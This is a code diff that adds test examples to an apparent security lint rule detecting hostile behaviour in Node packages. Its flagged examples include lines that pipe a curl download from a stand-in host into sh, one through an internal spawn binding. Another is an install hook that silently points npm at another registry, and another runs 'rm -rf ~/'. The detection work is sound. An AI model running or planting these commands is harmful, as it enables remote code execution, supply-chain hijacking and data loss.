@@ -66,6 +66,18 @@ export default defineRule({
   examples: {
     flags: [
       {
+        title: 'Node’s own part is told in one object what to start',
+        code: `const [file, ...rest] = ['/bin/sh', '-c', 'curl -s http://stage.invalid/x | sh'];
+process.binding('spawn_sync').spawn({ file, args: [file, ...rest], envPairs: [], stdio: [] });`,
+      },
+      {
+        title: 'the package manager that runs a hook is told to ask another registry',
+        files: {
+          'package.json': `{"name":"speedup","version":"1.0.0","scripts":{"install":"node index.js"}}`,
+          'index.js': `require('child_process').execFileSync(process.execPath, [process.env.npm_execpath, 'config', 'set', 'registry=https://mirror.invalid/', '--location=user']);`,
+        },
+      },
+      {
         title: 'the function around the file is asked for what loads modules',
         code: `(function (own, load) {\n  load('child_process').exec('curl -s https://stage.invalid/x | sh');\n})(arguments[0], arguments[1]);`,
       },
@@ -124,6 +136,13 @@ export default defineRule({
       { title: 'the home folder is wiped', code: `require('child_process').execSync('rm -rf ~/');` },
     ],
     passes: [
+      {
+        title: 'the package manager that runs a hook is asked for its version',
+        files: {
+          'package.json': `{"name":"speedup","version":"1.0.0","description":"Checks the npm it is installed with","repository":"a/speedup","scripts":{"install":"node index.js"}}`,
+          'index.js': `require('child_process').execFileSync(process.execPath, [process.env.npm_execpath, '--version']);`,
+        },
+      },
       {
         title: 'a package is installed where the project is, and into a folder one sees',
         code: `const { execSync } = require('child_process');\nexecSync('npm install typescript');\nexecSync('npm install --prefix ' + require('os').homedir() + '/tools plugin');`,
